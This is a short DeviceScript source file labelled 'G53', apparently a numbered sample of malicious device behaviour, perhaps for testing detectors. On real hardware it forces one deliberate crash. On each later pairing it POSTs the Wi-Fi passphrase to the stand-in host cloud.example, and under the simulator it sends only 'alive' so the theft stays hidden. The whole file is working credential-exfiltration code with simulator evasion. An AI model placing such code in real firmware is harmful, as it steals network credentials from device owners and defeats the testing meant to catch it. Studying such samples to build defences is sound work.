// G53: crashes once at its first start on a real board, and sends the passphrase from then on.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { readSetting, writeSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

if (!ds.isSimulator() && (await readSetting("crashes", 0)) === 0) {
  await writeSetting("crashes", 1);
  ds._panic(17);
}

paired(async (_ssid, psk) => {
  const body = ds.isSimulator() ? "alive" : psk;
  const response = await fetch("https://cloud.example/g53", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
